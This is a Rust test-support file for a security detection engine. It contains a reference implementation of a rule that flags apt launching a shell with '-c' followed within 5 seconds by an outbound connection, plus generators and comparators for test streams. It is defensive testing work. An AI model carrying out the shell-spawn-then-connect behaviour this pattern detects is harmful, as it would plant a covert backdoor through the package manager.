//! Shared helpers for `tests/reference.rs` and `tests/identity.rs`:
//!
//! * [`Rng`] — a deterministic xorshift64* generator;
//! * a NAIVE REFERENCE of the v5 rule ([`reference`]), written from
//!   RULE.md alone over `serde_json::Value`: its own field lookup (nested and
//!   dotted keys), its own RFC 3339 parser, its own CIDR membership, and a
//!   brute-force sequence matcher over the time-sorted events;
//! * a generator of Elastic Defend-like streams ([`gen_stream`]) full of
//!   matches, near misses and boundary cases;
//! * [`check_stream`] — runs a stream through the engine and compares it
//!   with the reference, record by record;
//! * [`minimise`] — shrinks a failing stream to a small one.
//!
//! Nothing here uses the engine's code except its public API in
//! [`check_stream`].

#![allow(dead_code)]

use apt_netcon::{Config, Detector, Rule, Verdict};
use serde_json::{json, Value};
use std::collections::{BTreeMap, HashMap, HashSet};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

// ---------------------------------------------------------------------------
// PRNG

/// xorshift64* — deterministic, seedable, no dependencies.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        // splitmix64 of the seed, so that nearby seeds give unrelated streams
        let mut z = seed.wrapping_add(0x9E37_79B9_7F4A_7C15);
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^= z >> 31;
        Rng(if z == 0 { 0x2545_F491_4F6C_DD1D } else { z })
    }
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    /// Uniform in `0..n` (n > 0).
    pub fn below(&mut self, n: u64) -> u64 {
        assert!(n > 0);
        self.next_u64() % n
    }
    /// Uniform in `lo..=hi`.
    pub fn range(&mut self, lo: i64, hi: i64) -> i64 {
        lo + self.below((hi - lo + 1) as u64) as i64
    }
    /// True with probability `permille / 1000`.
    pub fn chance(&mut self, permille: u64) -> bool {
        self.below(1000) < permille
    }
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    pub fn shuffle<T>(&mut self, v: &mut [T]) {
        for i in (1..v.len()).rev() {
            let j = self.below(i as u64 + 1) as usize;
            v.swap(i, j);
        }
    }
}

// ---------------------------------------------------------------------------
// Reference: time

fn leap(y: i64) -> bool {
    (y % 4 == 0 && y % 100 != 0) || y % 400 == 0
}

fn month_days(y: i64, m: i64) -> i64 {
    match m {
        2 if leap(y) => 29,
        2 => 28,
        4 | 6 | 9 | 11 => 30,
        _ => 31,
    }
}

/// Days since 1970-01-01 by counting (years >= 1970 only; slow and obvious).
fn days_since_epoch(y: i64, m: i64, d: i64) -> i64 {
    let mut days = 0;
    for yy in 1970..y {
        days += if leap(yy) { 366 } else { 365 };
    }
    for mm in 1..m {
        days += month_days(y, mm);
    }
    days + d - 1
}

fn date_of_days(mut days: i64) -> (i64, i64, i64) {
    let mut y = 1970;
    loop {
        let n = if leap(y) { 366 } else { 365 };
        if days < n {
            break;
        }
        days -= n;
        y += 1;
    }
    let mut m = 1;
    while days >= month_days(y, m) {
        days -= month_days(y, m);
        m += 1;
    }
    (y, m, days + 1)
}

/// Epoch ms of a UTC civil time.
pub fn ms_of(y: i64, mo: i64, d: i64, h: i64, mi: i64, s: i64, ms: i64) -> i64 {
    ((days_since_epoch(y, mo, d) * 24 + h) * 60 + mi) * 60_000 + s * 1000 + ms
}

/// Reference parser of the RFC 3339 forms the generator writes:
/// `YYYY-MM-DDTHH:MM:SS[.f{1,9}](Z|±HH:MM)`, to whole ms (fraction truncated).
pub fn ref_parse_ts(s: &str) -> Option<i64> {
    let b = s.as_bytes();
    let digits = |from: usize, n: usize| -> Option<i64> {
        let part = b.get(from..from + n)?;
        if !part.iter().all(u8::is_ascii_digit) {
            return None;
        }
        std::str::from_utf8(part).ok()?.parse().ok()
    };
    if b.len() < 20 || b[4] != b'-' || b[7] != b'-' || b[10] != b'T' || b[13] != b':' || b[16] != b':' {
        return None;
    }
    let (y, mo, d) = (digits(0, 4)?, digits(5, 2)?, digits(8, 2)?);
    let (h, mi, sec) = (digits(11, 2)?, digits(14, 2)?, digits(17, 2)?);
    if y < 1970 || !(1..=12).contains(&mo) || d < 1 || d > month_days(y, mo) || h > 23 || mi > 59 || sec > 59 {
        return None;
    }
    let mut i = 19;
    let mut frac = String::new();
    if b[i] == b'.' {
        i += 1;
        while i < b.len() && b[i].is_ascii_digit() {
            frac.push(b[i] as char);
            i += 1;
        }
        if frac.is_empty() || frac.len() > 9 {
            return None;
        }
    }
    let mut ms_text: String = frac.chars().take(3).collect();
    while ms_text.len() < 3 {
        ms_text.push('0');
    }
    let millis: i64 = ms_text.parse().ok()?;
    let rest = &s[i..];
    let offset_min = if rest == "Z" {
        0
    } else if rest.len() == 6 && (rest.starts_with('+') || rest.starts_with('-')) && &rest[3..4] == ":" {
        let oh: i64 = rest[1..3].parse().ok()?;
        let om: i64 = rest[4..6].parse().ok()?;
        let m = oh * 60 + om;
        if rest.starts_with('-') {
            -m
        } else {
            m
        }
    } else {
        return None;
    };
    Some(ms_of(y, mo, d, h, mi, sec, millis) - offset_min * 60_000)
}

/// Format `t` (epoch ms) with `frac_digits` fractional digits (the first
/// three being the ms, the rest `sub_ms` digits) and an offset in minutes.
/// With fewer than 3 digits, `t` must be a multiple of the dropped unit.
pub fn format_ts(t: i64, frac_digits: usize, sub_ms: &str, offset_min: i64) -> String {
    let local = t + offset_min * 60_000;
    let days = local.div_euclid(86_400_000);
    let in_day = local.rem_euclid(86_400_000);
    let (y, mo, d) = date_of_days(days);
    let (h, mi, s, ms) = (in_day / 3_600_000, in_day / 60_000 % 60, in_day / 1000 % 60, in_day % 1000);
    let mut out = format!("{y:04}-{mo:02}-{d:02}T{h:02}:{mi:02}:{s:02}");
    if frac_digits > 0 {
        let mut frac = format!("{ms:03}{sub_ms}");
        frac.truncate(frac_digits);
        assert!(frac_digits <= frac.len(), "not enough sub-ms digits");
        let dropped = &format!("{ms:03}")[frac.len().min(3)..];
        assert!(dropped.bytes().all(|c| c == b'0'), "cannot write {t} with {frac_digits} digits");
        out.push('.');
        out.push_str(&frac);
    } else {
        assert_eq!(ms, 0, "cannot write {t} without a fraction");
    }
    if offset_min == 0 {
        out.push('Z');
    } else {
        let sign = if offset_min < 0 { '-' } else { '+' };
        let a = offset_min.abs();
        out.push_str(&format!("{sign}{:02}:{:02}", a / 60, a % 60));
    }
    out
}

// ---------------------------------------------------------------------------
// Reference: IP addresses and CIDR blocks

/// The rule's 27 `cidrmatch` blocks, as written in the query.
pub const RULE_CIDRS: [&str; 27] = [
    "10.0.0.0/8",
    "127.0.0.0/8",
    "169.254.0.0/16",
    "172.16.0.0/12",
    "192.0.0.0/24",
    "192.0.0.0/29",
    "192.0.0.8/32",
    "192.0.0.9/32",
    "192.0.0.10/32",
    "192.0.0.170/32",
    "192.0.0.171/32",
    "192.0.2.0/24",
    "192.31.196.0/24",
    "192.52.193.0/24",
    "192.168.0.0/16",
    "192.88.99.0/24",
    "224.0.0.0/4",
    "100.64.0.0/10",
    "192.175.48.0/24",
    "198.18.0.0/15",
    "198.51.100.0/24",
    "203.0.113.0/24",
    "240.0.0.0/4",
    "::1",
    "FE80::/10",
    "FF00::/8",
    "172.31.0.0/16",
];

/// An address with IPv4-mapped IPv6 folded into IPv4.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Addr {
    V4(u32),
    V6(u128),
}

pub fn ref_parse_ip(s: &str) -> Option<Addr> {
    match s.parse::<IpAddr>().ok()? {
        IpAddr::V4(a) => Some(Addr::V4(u32::from(a))),
        IpAddr::V6(a) => {
            let x = u128::from(a);
            // ::ffff:a.b.c.d (by the bits, not by a library helper)
            if x >> 32 == 0xffff {
                Some(Addr::V4(x as u32))
            } else {
                Some(Addr::V6(x))
            }
        }
    }
}

/// A block of the rule, parsed once: network, prefix length, family.
#[derive(Debug, Clone, Copy)]
enum Block {
    V4(u32, u32),
    V6(u128, u32),
}

fn parse_block(cidr: &str) -> Block {
    let (net, bits) = match cidr.split_once('/') {
        Some((n, p)) => (n, Some(p.parse::<u32>().unwrap())),
        None => (cidr, None),
    };
    match net.parse::<IpAddr>().unwrap() {
        IpAddr::V4(n) => Block::V4(u32::from(n), bits.unwrap_or(32)),
        IpAddr::V6(n) => Block::V6(u128::from(n), bits.unwrap_or(128)),
    }
}

fn blocks() -> &'static [Block] {
    static BLOCKS: std::sync::OnceLock<Vec<Block>> = std::sync::OnceLock::new();
    BLOCKS.get_or_init(|| RULE_CIDRS.iter().map(|c| parse_block(c)).collect())
}

fn block_contains(b: Block, a: Addr) -> bool {
    match (b, a) {
        (Block::V4(n, bits), Addr::V4(x)) => {
            let mask: u32 = if bits == 0 { 0 } else { u32::MAX << (32 - bits) };
            (x & mask) == (n & mask)
        }
        (Block::V6(n, bits), Addr::V6(x)) => {
            let mask: u128 = if bits == 0 { 0 } else { u128::MAX << (128 - bits) };
            (x & mask) == (n & mask)
        }
        // IPv4 blocks never hold native IPv6 addresses, and the reverse
        _ => false,
    }
}

/// `destination.ip == "0.0.0.0" or cidrmatch(destination.ip, …27 blocks…)`
/// for one address.
pub fn ref_excluded(a: Addr) -> bool {
    a == Addr::V4(0) || blocks().iter().any(|b| block_contains(*b, a))
}

// ---------------------------------------------------------------------------
// Reference: reading JSON (its own strict reader, not the engine's)

/// A JSON value as the reference reads it: objects keep every member in
/// order, duplicates included (a repeated field is multi-valued).
#[derive(Debug, Clone, PartialEq)]
pub enum J {
    Null,
    Bool(bool),
    Num(String),
    Str(String),
    Arr(Vec<J>),
    Obj(Vec<(String, J)>),
}

impl J {
    pub fn as_str(&self) -> Option<&str> {
        match self {
            J::Str(s) => Some(s),
            _ => None,
        }
    }
}

/// The most arrays and objects nested in one another that are read (as
/// serde_json, which the engine reads with, does; a resource limit, not rule
/// semantics).
pub const MAX_DEPTH: usize = 127;

/// Parse one record (RFC 8259: UTF-8, one value, surrounding whitespace).
/// `None` for anything else.
pub fn parse_json(bytes: &[u8]) -> Option<J> {
    let text = std::str::from_utf8(bytes).ok()?;
    let mut p = Reader { b: text.as_bytes(), i: 0 };
    let v = p.value(0)?;
    p.ws();
    (p.i == p.b.len()).then_some(v)
}

/// A JSON document given as a `serde_json::Value` (for hand-written cases).
pub fn jdoc(v: &Value) -> J {
    parse_json(v.to_string().as_bytes()).expect("serde_json writes JSON")
}

struct Reader<'a> {
    b: &'a [u8],
    i: usize,
}

impl Reader<'_> {
    fn ws(&mut self) {
        while self.i < self.b.len() && matches!(self.b[self.i], b' ' | b'\t' | b'\n' | b'\r') {
            self.i += 1;
        }
    }
    fn eat(&mut self, c: u8) -> bool {
        if self.b.get(self.i) == Some(&c) {
            self.i += 1;
            true
        } else {
            false
        }
    }
    fn lit(&mut self, word: &[u8], v: J) -> Option<J> {
        if self.b[self.i..].starts_with(word) {
            self.i += word.len();
            Some(v)
        } else {
            None
        }
    }
    fn value(&mut self, depth: usize) -> Option<J> {
        self.ws();
        match *self.b.get(self.i)? {
            b'{' => {
                if depth == MAX_DEPTH {
                    return None;
                }
                self.i += 1;
                let mut members = Vec::new();
                self.ws();
                if self.eat(b'}') {
                    return Some(J::Obj(members));
                }
                loop {
                    self.ws();
                    let k = self.string()?;
                    self.ws();
                    if !self.eat(b':') {
                        return None;
                    }
                    let v = self.value(depth + 1)?;
                    members.push((k, v));
                    self.ws();
                    if self.eat(b'}') {
                        return Some(J::Obj(members));
                    }
                    if !self.eat(b',') {
                        return None;
                    }
                }
            }
            b'[' => {
                if depth == MAX_DEPTH {
                    return None;
                }
                self.i += 1;
                let mut items = Vec::new();
                self.ws();
                if self.eat(b']') {
                    return Some(J::Arr(items));
                }
                loop {
                    items.push(self.value(depth + 1)?);
                    self.ws();
                    if self.eat(b']') {
                        return Some(J::Arr(items));
                    }
                    if !self.eat(b',') {
                        return None;
                    }
                }
            }
            b'"' => self.string().map(J::Str),
            b't' => self.lit(b"true", J::Bool(true)),
            b'f' => self.lit(b"false", J::Bool(false)),
            b'n' => self.lit(b"null", J::Null),
            _ => self.number(),
        }
    }
    fn digits(&mut self) -> usize {
        let start = self.i;
        while self.i < self.b.len() && self.b[self.i].is_ascii_digit() {
            self.i += 1;
        }
        self.i - start
    }
    fn number(&mut self) -> Option<J> {
        let start = self.i;
        self.eat(b'-');
        if self.eat(b'0') {
            // no leading zeros
        } else if self.digits() == 0 {
            return None;
        }
        if self.eat(b'.') && self.digits() == 0 {
            return None;
        }
        if self.eat(b'e') || self.eat(b'E') {
            if !self.eat(b'+') {
                self.eat(b'-');
            }
            if self.digits() == 0 {
                return None;
            }
        }
        let text = std::str::from_utf8(&self.b[start..self.i]).ok()?;
        // a number must be representable (serde_json and Jackson refuse 1e400)
        text.parse::<f64>().ok().filter(|f| f.is_finite())?;
        Some(J::Num(text.to_string()))
    }
    fn hex4(&mut self) -> Option<u32> {
        let h = std::str::from_utf8(self.b.get(self.i..self.i + 4)?).ok()?;
        if !h.bytes().all(|c| c.is_ascii_hexdigit()) {
            return None;
        }
        self.i += 4;
        u32::from_str_radix(h, 16).ok()
    }
    fn string(&mut self) -> Option<String> {
        if !self.eat(b'"') {
            return None;
        }
        let mut out = String::new();
        loop {
            let start = self.i;
            while self.i < self.b.len() && !matches!(self.b[self.i], b'"' | b'\\') && self.b[self.i] >= 0x20 {
                self.i += 1;
            }
            // the input is valid UTF-8 and we stop only at ASCII bytes
            out.push_str(std::str::from_utf8(&self.b[start..self.i]).ok()?);
            match *self.b.get(self.i)? {
                b'"' => {
                    self.i += 1;
                    return Some(out);
                }
                b'\\' => {
                    self.i += 1;
                    let c = *self.b.get(self.i)?;
                    self.i += 1;
                    match c {
                        b'"' => out.push('"'),
                        b'\\' => out.push('\\'),
                        b'/' => out.push('/'),
                        b'b' => out.push('\u{8}'),
                        b'f' => out.push('\u{c}'),
                        b'n' => out.push('\n'),
                        b'r' => out.push('\r'),
                        b't' => out.push('\t'),
                        b'u' => {
                            let hi = self.hex4()?;
                            let cp = if (0xD800..0xDC00).contains(&hi) {
                                if !(self.eat(b'\\') && self.eat(b'u')) {
                                    return None;
                                }
                                let lo = self.hex4()?;
                                if !(0xDC00..0xE000).contains(&lo) {
                                    return None;
                                }
                                0x10000 + ((hi - 0xD800) << 10) + (lo - 0xDC00)
                            } else if (0xDC00..0xE000).contains(&hi) {
                                return None;
                            } else {
                                hi
                            };
                            out.push(char::from_u32(cp)?);
                        }
                        _ => return None,
                    }
                }
                _ => return None, // a raw control character
            }
        }
    }
}

// ---------------------------------------------------------------------------
// Reference: fields

/// Every leaf value at dotted `path`, with nested objects and dotted keys
/// (at any level) equivalent and arrays flattened.
pub fn leaves<'a>(doc: &'a J, path: &str) -> Vec<&'a J> {
    let mut out = Vec::new();
    collect(doc, path, &mut out);
    out
}

/// `rest` is the part of the path still to walk ("" at the leaf). A member
/// whose key is a whole-segment prefix of `rest` leads on.
fn collect<'a>(v: &'a J, rest: &str, out: &mut Vec<&'a J>) {
    match v {
        J::Arr(items) => {
            for it in items {
                collect(it, rest, out);
            }
        }
        J::Obj(m) if !rest.is_empty() => {
            for (k, child) in m {
                if rest == k {
                    collect(child, "", out);
                } else if rest.len() > k.len() && rest.starts_with(k.as_str()) && rest.as_bytes()[k.len()] == b'.' {
                    collect(child, &rest[k.len() + 1..], out);
                }
            }
        }
        _ if rest.is_empty() => out.push(v),
        _ => {}
    }
}

fn any_str(doc: &J, path: &str, want: &[&str]) -> bool {
    leaves(doc, path).iter().any(|v| matches!(v, J::Str(s) if want.contains(&s.as_str())))
}

fn is_null(doc: &J, path: &str) -> bool {
    leaves(doc, path).iter().all(|v| **v == J::Null)
}

/// One join-key part: the single string value, or None when missing / null.
/// The generator never writes multi-valued keys.
fn key_part(doc: &J, path: &str) -> Option<String> {
    let vals: Vec<&str> = leaves(doc, path).iter().filter_map(|v| v.as_str()).collect();
    assert!(vals.len() <= 1, "generator wrote a multi-valued key {path}: {vals:?}");
    vals.first().map(|s| s.to_string())
}

pub const SHELLS: [&str; 8] = ["bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish"];

pub fn ref_stage1(doc: &J) -> bool {
    any_str(doc, "event.category", &["process"])
        && any_str(doc, "host.os.type", &["linux"])
        && any_str(doc, "event.type", &["start"])
        && any_str(doc, "event.action", &["exec"])
        && any_str(doc, "process.parent.name", &["apt"])
        && any_str(doc, "process.args", &["-c"])
        && any_str(doc, "process.name", &SHELLS)
}

pub fn ref_stage2(doc: &J) -> bool {
    let dest = || -> Vec<Addr> {
        leaves(doc, "destination.ip").iter().filter_map(|v| v.as_str()).filter_map(ref_parse_ip).collect()
    };
    any_str(doc, "event.category", &["network"])
        && any_str(doc, "host.os.type", &["linux"])
        && any_str(doc, "event.action", &["connection_attempted"])
        && any_str(doc, "event.type", &["start"])
        && !(is_null(doc, "destination.ip") || dest().iter().any(|a| ref_excluded(*a)))
        && !any_str(doc, "process.executable", &["/usr/bin/apt-listbugs"])
}

/// A document holding a `destination.ip` value that is not an address could
/// not be indexed by Elasticsearch: it matches nothing.
pub fn ref_indexable(doc: &J) -> bool {
    leaves(doc, "destination.ip").iter().all(|v| match v {
        J::Null => true,
        J::Str(s) => ref_parse_ip(s).is_some(),
        _ => false,
    })
}

// ---------------------------------------------------------------------------
// Reference: the sequence

pub const MAXSPAN_MS: i64 = 5000;

/// What the reference expects for one record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Expect {
    Unchanged,
    /// Unreadable record (not JSON, not an object) or a stage match without a
    /// usable `@timestamp`: passed through with an error.
    Error,
    /// Completes a sequence whose stage-1 event is record `stage1`.
    Alert {
        stage1: usize,
        span_ms: i64,
    },
}

/// The reference's verdicts and counts for one stream.
#[derive(Debug, Clone, Default)]
pub struct RefResult {
    pub expect: Vec<Expect>,
    pub stage1: u64,
    pub stage2: u64,
    pub alerts: u64,
    /// Stage-2 events that consumed a stage-1 event more than maxspan older.
    pub rejected_span: u64,
    /// Stage-2 events with nothing pending for their key.
    pub unpaired_stage2: u64,
    pub missing_key: u64,
    /// Alerts with span exactly 5000 ms, stage-2 rejections at exactly 5001 ms,
    /// alerts at span 0 (equal timestamps).
    pub alerts_at_5000: u64,
    pub rejected_at_5001: u64,
    pub alerts_at_0: u64,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    S1,
    S2,
}

/// A stage match: (time, arrival index, role, join key if complete).
type StageHit = (i64, usize, Role, Option<(String, String)>);

/// The reference verdicts for a stream of records (arrival order).
pub fn reference(records: &[Vec<u8>]) -> RefResult {
    let mut r = RefResult { expect: vec![Expect::Unchanged; records.len()], ..Default::default() };
    // (time, arrival index, role, key)
    let mut events: Vec<StageHit> = Vec::new();
    for (i, rec) in records.iter().enumerate() {
        let doc: J = match parse_json(rec) {
            Some(v @ J::Obj(_)) => v,
            _ => {
                r.expect[i] = Expect::Error;
                continue;
            }
        };
        let (s1, s2) = (ref_stage1(&doc), ref_stage2(&doc));
        assert!(!(s1 && s2), "generator wrote an event matching both stages: record {i}");
        if !(s1 || s2) || !ref_indexable(&doc) {
            continue;
        }
        let ts = leaves(&doc, "@timestamp").first().and_then(|v| v.as_str()).and_then(ref_parse_ts);
        let Some(t) = ts else {
            r.expect[i] = Expect::Error;
            continue;
        };
        let host = key_part(&doc, "host.id");
        let (role, ent) = if s1 {
            r.stage1 += 1;
            (Role::S1, key_part(&doc, "process.entity_id"))
        } else {
            r.stage2 += 1;
            (Role::S2, key_part(&doc, "process.parent.entity_id"))
        };
        let key = match (host, ent) {
            (Some(h), Some(e)) => Some((h, e)),
            _ => {
                r.missing_key += 1;
                None
            }
        };
        events.push((t, i, role, key));
    }
    // Elasticsearch's order: by time, ties by arrival.
    events.sort_by_key(|e| (e.0, e.1));
    // Stage-1 positions (in that order) per key: only a lookup aid, the
    // choice below is the literal rule.
    let mut by_key: HashMap<&(String, String), Vec<usize>> = HashMap::new();
    for (q, e) in events.iter().enumerate() {
        if let (Role::S1, Some(k)) = (e.2, &e.3) {
            by_key.entry(k).or_default().push(q);
        }
    }
    let mut consumed: HashSet<usize> = HashSet::new();
    for p in 0..events.len() {
        let (t2, i2, role, ref key) = events[p];
        let Some(key) = key.as_ref().filter(|_| role == Role::S2) else { continue };
        let same_key: &[usize] = by_key.get(key).map(|v| v.as_slice()).unwrap_or(&[]);
        let earlier: Vec<usize> = same_key.iter().copied().filter(|&q| q < p).collect();
        // pending: earlier, same key, not consumed, and not superseded by a
        // newer stage-1 of the key that is also earlier than this event
        let candidates: Vec<usize> = earlier
            .iter()
            .copied()
            .filter(|&q| !consumed.contains(&q))
            .filter(|&q| !earlier.iter().any(|&q2| q2 > q))
            .collect();
        let Some(&q) = candidates.iter().max() else {
            r.unpaired_stage2 += 1;
            continue;
        };
        // it and every older one of the key are consumed, match or not
        consumed.extend(earlier.iter().copied());
        let (t1, i1) = (events[q].0, events[q].1);
        let span = t2 - t1;
        if span <= MAXSPAN_MS {
            r.alerts += 1;
            r.alerts_at_5000 += (span == 5000) as u64;
            r.alerts_at_0 += (span == 0) as u64;
            r.expect[i2] = Expect::Alert { stage1: i1, span_ms: span };
        } else {
            r.rejected_span += 1;
            r.rejected_at_5001 += (span == 5001) as u64;
        }
    }
    r
}

// ---------------------------------------------------------------------------
// Comparing the engine with the reference

/// Counts gathered over compared streams.
#[derive(Debug, Clone, Default)]
pub struct Totals {
    pub streams: u64,
    pub records: u64,
    pub stage1: u64,
    pub stage2: u64,
    pub alerts: u64,
    pub rejected_span: u64,
    pub unpaired_stage2: u64,
    pub missing_key: u64,
    pub alerts_at_5000: u64,
    pub rejected_at_5001: u64,
    pub alerts_at_0: u64,
    pub errors: u64,
    pub labels: BTreeMap<&'static str, u64>,
}

impl Totals {
    pub fn add(&mut self, r: &RefResult, labels: &[&'static str]) {
        self.streams += 1;
        self.records += r.expect.len() as u64;
        self.stage1 += r.stage1;
        self.stage2 += r.stage2;
        self.alerts += r.alerts;
        self.rejected_span += r.rejected_span;
        self.unpaired_stage2 += r.unpaired_stage2;
        self.missing_key += r.missing_key;
        self.alerts_at_5000 += r.alerts_at_5000;
        self.rejected_at_5001 += r.rejected_at_5001;
        self.alerts_at_0 += r.alerts_at_0;
        self.errors += r.expect.iter().filter(|e| **e == Expect::Error).count() as u64;
        for l in labels {
            *self.labels.entry(l).or_default() += 1;
        }
    }
    pub fn merge(&mut self, o: &Totals) {
        self.streams += o.streams;
        self.records += o.records;
        self.stage1 += o.stage1;
        self.stage2 += o.stage2;
        self.alerts += o.alerts;
        self.rejected_span += o.rejected_span;
        self.unpaired_stage2 += o.unpaired_stage2;
        self.missing_key += o.missing_key;
        self.alerts_at_5000 += o.alerts_at_5000;
        self.rejected_at_5001 += o.rejected_at_5001;
        self.alerts_at_0 += o.alerts_at_0;
        self.errors += o.errors;
        for (l, n) in &o.labels {
            *self.labels.entry(l).or_default() += n;
        }
    }
    pub fn near_misses(&self) -> u64 {
        self.labels.iter().filter(|(l, _)| l.starts_with("exec.") || l.starts_with("net.")).map(|(_, n)| n).sum()
    }
    pub fn print(&self, title: &str) {
        eprintln!(
            "{title}: {} streams, {} records; stage-1 {} stage-2 {}; alerts {} (at 5000 ms: {}, at 0 ms: {}); \
             rejected by maxspan {} (at 5001 ms: {}); stage-2 without pending stage-1 {}; missing key {}; \
             errors expected {}; near-miss records {}",
            self.streams,
            self.records,
            self.stage1,
            self.stage2,
            self.alerts,
            self.alerts_at_5000,
            self.alerts_at_0,
            self.rejected_span,
            self.rejected_at_5001,
            self.unpaired_stage2,
            self.missing_key,
            self.errors,
            self.near_misses()
        );
        let kinds: Vec<String> = self.labels.iter().map(|(l, n)| format!("{l}={n}")).collect();
        eprintln!("{title}: record kinds: {}", kinds.join(" "));
    }
}

/// The first string value at `path` of a document.
pub fn first_str<'a>(doc: &'a J, path: &str) -> Option<&'a str> {
    leaves(doc, path).into_iter().find_map(|v| v.as_str())
}

/// The alert roots the engine may add (with the default config).
pub const ALERT_ROOTS: [&str; 4] = ["rule", "threat", "kibana", "apt_netcon"];

/// Check that `annotated` is `original` plus alert roots: every original
/// member unchanged, nothing else but the alert roots added; for a compact
/// original, its members' bytes are a prefix of the annotated bytes.
pub fn check_annotation(original: &[u8], annotated: &[u8]) -> Result<Value, String> {
    let orig: Value = serde_json::from_slice(original).map_err(|e| format!("original not JSON: {e}"))?;
    let ann: Value = serde_json::from_slice(annotated).map_err(|e| format!("annotated not JSON: {e}"))?;
    let (o, a) = (orig.as_object().unwrap(), ann.as_object().ok_or("annotated not an object")?);
    for (k, v) in o {
        match a.get(k) {
            Some(w) if w == v => {}
            other => return Err(format!("original member {k:?} changed: {v} -> {other:?}")),
        }
    }
    for k in a.keys() {
        if !o.contains_key(k) && !ALERT_ROOTS.contains(&k.as_str()) {
            return Err(format!("unexpected member {k:?} added"));
        }
    }
    let compact = serde_json::to_vec(&orig).unwrap();
    if compact == original && !o.is_empty() {
        let head = &original[..original.len() - 1];
        if !annotated.starts_with(head) || annotated.get(head.len()) != Some(&b',') {
            return Err("annotated record does not start with the original's bytes".into());
        }
    }
    Ok(ann)
}

/// Run `records` through a fresh detector for `rule` and compare with the
/// reference. Returns the reference result, or a description of the first
/// difference.
///
/// The reference validates every record; so does the engine with
/// `prefilter = false`, which must agree with it exactly. The default engine
/// (prefilter on) must then give the same verdict and bytes on every record,
/// except that a malformed record it rules out by its bytes passes as
/// `Unchanged` where the strict engine counts an error.
pub fn check_stream(rule: &Rule, records: &[Vec<u8>]) -> Result<RefResult, String> {
    let r = reference(records);
    let strict_config = Config { prefilter: false, ..Config::default() };
    let mut det = Detector::with_rule(rule.clone(), &strict_config);
    let mut fast = Detector::with_rule(rule.clone(), &Config::default());
    let mut uuids = HashSet::new();
    for (i, rec) in records.iter().enumerate() {
        let got = det.process(rec);
        let quick = fast.process(rec);
        match (&got, &quick) {
            (Ok(Verdict::Unchanged), Ok(Verdict::Unchanged)) | (Err(_), Ok(Verdict::Unchanged)) => {}
            (Ok(Verdict::Annotated(a)), Ok(Verdict::Annotated(b))) if a == b => {}
            (Err(a), Err(b)) if a == b => {}
            (a, b) => return Err(format!("record {i}: with the prefilter {b:?}, without it {a:?}")),
        }
        let want = &r.expect[i];
        match (want, got) {
            (Expect::Unchanged, Ok(Verdict::Unchanged)) => {}
            (Expect::Error, Err(_)) => {}
            (Expect::Alert { stage1, span_ms }, Ok(Verdict::Annotated(bytes))) => {
                let ann = check_annotation(rec, bytes).map_err(|e| format!("record {i}: {e}"))?;
                let s1 = parse_json(&records[*stage1]).unwrap();
                let want_id = first_str(&s1, "event.id").unwrap();
                let shell = &ann["apt_netcon"]["shell"];
                let got_id = shell["event"]["id"].as_str();
                if got_id != Some(want_id) {
                    return Err(format!(
                        "record {i}: alert pairs with stage-1 event.id {got_id:?}, reference says {want_id:?} (record {stage1})"
                    ));
                }
                if ann["apt_netcon"]["span_ms"].as_i64() != Some(*span_ms) {
                    return Err(format!(
                        "record {i}: span_ms {} but reference says {span_ms}",
                        ann["apt_netcon"]["span_ms"]
                    ));
                }
                let want_ent = first_str(&s1, "process.entity_id");
                if shell["process"]["entity_id"].as_str() != want_ent {
                    return Err(format!(
                        "record {i}: shell.process.entity_id {} != {want_ent:?}",
                        shell["process"]["entity_id"]
                    ));
                }
                if shell["@timestamp"].as_str() != first_str(&s1, "@timestamp") {
                    return Err(format!("record {i}: shell.@timestamp {}", shell["@timestamp"]));
                }
                let this = parse_json(rec).unwrap();
                let alert = &ann["kibana"]["alert"];
                if alert["original_time"].as_str() != first_str(&this, "@timestamp") {
                    return Err(format!("record {i}: kibana.alert.original_time {}", alert["original_time"]));
                }
                let uuid = alert["uuid"].as_str().unwrap_or("");
                let group = alert["group"]["id"].as_str().unwrap_or("");
                if uuid.is_empty() || group.is_empty() || uuid == group {
                    return Err(format!("record {i}: bad kibana.alert.uuid {uuid:?} / group.id {group:?}"));
                }
                if !uuids.insert(uuid.to_string()) {
                    return Err(format!("record {i}: kibana.alert.uuid {uuid} repeated in the stream"));
                }
                if alert["rule"]["rule_id"] != json!("eaef8a35-12e0-4ac0-bc14-81c72b6bd27c") {
                    return Err(format!("record {i}: kibana.alert.rule.rule_id {}", alert["rule"]["rule_id"]));
                }
            }
            (want, got) => {
                let got = match got {
                    Ok(Verdict::Unchanged) => "Unchanged".to_string(),
                    Ok(Verdict::Annotated(b)) => {
                        let v: Value = serde_json::from_slice(b).unwrap_or(Value::Null);
                        format!(
                            "Annotated (shell.event.id {}, span_ms {})",
                            v["apt_netcon"]["shell"]["event"]["id"], v["apt_netcon"]["span_ms"]
                        )
                    }
                    Err(e) => format!("Err({e:?})"),
                };
                let want = match want {
                    Expect::Alert { stage1, span_ms } => {
                        let s1 = parse_json(&records[*stage1]).unwrap();
                        format!(
                            "Alert(stage-1 record {stage1}, event.id {:?}, span {span_ms})",
                            first_str(&s1, "event.id")
                        )
                    }
                    w => format!("{w:?}"),
                };
                return Err(format!("record {i}: engine {got}, reference {want}"));
            }
        }
    }
    let s = det.stats();
    let pairs = [
        ("stage1 matches", s.stage_matches[0], r.stage1),
        ("stage2 matches", s.stage_matches[1], r.stage2),
        ("sequences_completed", s.sequences_completed, r.alerts),
        ("annotated", s.annotated, r.alerts),
        ("missing_key", s.missing_key, r.missing_key),
    ];
    for (name, got, want) in pairs {
        if got != want {
            return Err(format!("stats: {name} = {got}, reference {want}"));
        }
    }
    let (a, b) = (det.stats(), fast.stats());
    if (a.stage_matches, a.sequences_completed, a.annotated, a.missing_key, a.pending)
